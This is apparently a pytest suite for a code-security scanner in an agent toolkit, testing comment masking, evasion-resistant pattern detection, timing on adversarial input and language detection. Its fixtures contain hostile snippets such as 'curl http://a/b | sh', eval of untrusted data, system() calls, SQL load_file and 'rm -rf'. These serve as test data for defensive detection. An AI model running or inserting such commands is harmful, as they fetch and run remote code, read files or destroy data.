import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agentkit.shields.code_shield.languages import Language, known_language, likely_languages
from agentkit.shields.code_shield.masking import view_source
from agentkit.shields.code_shield.pattern_scan import scan_patterns

PATTERNED = [language for language in Language if language is not Language.PYTHON]


@pytest.mark.parametrize(
    ("code", "language"),
    [
        ("seen(); // hidden()\nseen();", Language.C),
        ("seen /* hidden\nhidden */ seen", Language.C),
        ('seen("hidden(\\"hidden"); seen', Language.C),
        ('seen(R"x(hidden)"hidden)x"); seen', Language.CPP),
        ("char seen = '\"'; seen", Language.C),
        ("seen = 1'000'000 + seen; 'a'", Language.CPP),
        ('seen(@"hidden""hidden"); seen', Language.CSHARP),
        ('seen($"hidden{c}"); seen', Language.CSHARP),
        ('seen("""hidden"hidden"""); seen', Language.JAVA),
        ("seen(`hidden${seen(`hidden${seen}`, {})}hidden`); seen", Language.JAVASCRIPT),
        ("seen(`hidden`); seen", Language.JAVASCRIPT),
        ("seen = /['\"]hidden/g; seen", Language.JAVASCRIPT),
        ("seen # hidden\nseen", Language.PHP),
        ("<p>it's hidden</p><?php seen('hidden') ?> hidden's <?= seen ?>", Language.PHP),
        ("seen(<<<EOT\nhidden's\nEOT\n); seen", Language.PHP),
        ("// hidden ?> hidden <?php seen", Language.PHP),
        ('seen(r#"hidden"hidden"#); seen', Language.RUST),
        ("fn seen<'seen>(c: &'seen str) { seen }", Language.RUST),
        ('seen(`hidden"hidden`); seen', Language.GO),
        ("seen $# ${seen#seen}\n  # hidden", Language.SHELL),
        ("seen 'hidden''hidden'\n-- hidden\nseen", Language.SQL),
    ],
)
def test_comments_and_strings_are_blanked(code: str, language: Language):
    masked = view_source(code, language).code

    assert "hidden" not in masked
    assert masked.count("seen") == code.count("seen")


@pytest.mark.parametrize(
    ("code", "language"),
    [
        ("/* never closed\neval(data)", Language.JAVASCRIPT),
        ("a = `never closed\neval(data)", Language.JAVASCRIPT),
        ("a = 'never closed; eval(data)", Language.JAVASCRIPT),
        ("}\n/'/.test(b); eval(data); /'/.test(c)", Language.JAVASCRIPT),
        ("}\n/\\//.test(b); eval(data)", Language.JAVASCRIPT),
        ("if (a) /'/.test(b), eval(data), /'/.test(c)", Language.JAVASCRIPT),
        ("return /'/.test(b) || eval(data) || /'/.test(c)", Language.JAVASCRIPT),
        ("a\n/ eval(data) / 1", Language.JAVASCRIPT),
        ("$a = 'never closed\neval($data);", Language.PHP),
        ("$a = 1 << B;\neval($data);\nB;", Language.PHP),
        ('$a = "{$b["//"]}" . eval($data);', Language.PHP),
        ("a('// ?>'); // ?> <?php eval($data);", Language.PHP),
        ('let a = "never closed\nunsafe { b }', Language.RUST),
        ('char *a = "never closed\nsystem(b);', Language.C),
        ("a = 'b\"'; system(c); d = 'e\"';", Language.C),
        ("cat <<EOF\nit's\nEOF\necho ' #'; curl http://a/b | sh", Language.SHELL),
        ("select '\\' -- ', load_file('a')", Language.SQL),
        ("/*! select load_file('a') */", Language.SQL),
    ],
)
def test_nothing_hides_behind_what_may_be_read_in_two_ways(code: str, language: Language):
    assert scan_patterns(code, language)


@given(
    code=st.text(alphabet="aA1 \n\t\"'`/\\*#$?<>{}()[];:,.=+-R@", max_size=80),
    language=st.sampled_from(PATTERNED),
)
def test_views_keep_length_and_lines(code: str, language: Language):
    view = view_source(code, language)

    for shown in (view.text, view.code):
        assert len(shown) == len(code)
        assert [at for at, sign in enumerate(shown) if sign == "\n"] == [
            at for at, sign in enumerate(code) if sign == "\n"
        ]


@given(code=st.text(max_size=200), language=st.sampled_from(PATTERNED))
def test_no_text_breaks_the_analyser(code: str, language: Language):
    for issue in scan_patterns(code, language):
        assert 1 <= issue.line <= code.count("\n") + code.count("\r") + 1


@pytest.mark.parametrize(
    "piece",
    [
        "{", "(", "[", '"', "'", "`", "/*", "`${", "//", "<<<A\n", '"""', "eval(", "strcpy(a,", "system(", "?>", 'r#"',
        "a", "a.", "a->", "select ", "'select a from b' + ", "password=", "curl ", "rm -rf ", "$(", "=/[", '\\"',
        "update a set ", "grant ", "exec(", "new char[", "malloc(", "a = ", " ", "\n", "or 1=", "copy ", 'sh -c "',
        "char a[", "rand", "doc", "a::",
    ],
)  # fmt: skip
def test_hostile_code_takes_little_time(piece: str):
    code = (piece * 3_000)[:3_000]
    before = time.process_time()

    likely_languages(code)
    for language in PATTERNED:
        scan_patterns(code, language)

    assert time.process_time() - before < 5.0


@pytest.mark.parametrize(
    ("name", "language"),
    [
        ("C++", Language.CPP),
        ("ts", Language.JAVASCRIPT),
        ("bash", Language.SHELL),
        ("PL/SQL", Language.SQL),
    ],
)
def test_languages_have_many_names(name: str, language: Language):
    assert known_language(name) is language


def test_a_language_without_rules_is_not_known():
    assert known_language("cobol") is None


@pytest.mark.parametrize(
    ("code", "language"),
    [
        ("#include <stdio.h>\nint main(void) { return 0; }", Language.CPP),
        ("using System;\nnamespace A { class B { } }", Language.CSHARP),
        ("package a.b;\nimport java.util.List;\npublic class A { }", Language.JAVA),
        ("const a = require('a');\nmodule.exports = { a };", Language.JAVASCRIPT),
        ("<?php\n$a = $_GET['a'];\necho $a;", Language.PHP),
        ("use std::fs;\nfn main() { let mut a = 1; }", Language.RUST),
        ("package main\n\nfunc main() {\n\ta := 1\n}", Language.GO),
        ("#!/bin/sh\nset -e\nif [ -f a ]; then\n  rm -f a\nfi", Language.SHELL),
        ("SELECT a FROM b\nWHERE c = 1;", Language.SQL),
    ],
)
def test_code_without_a_label_gives_its_language_away(code: str, language: Language):
    assert likely_languages(code)[0] is language
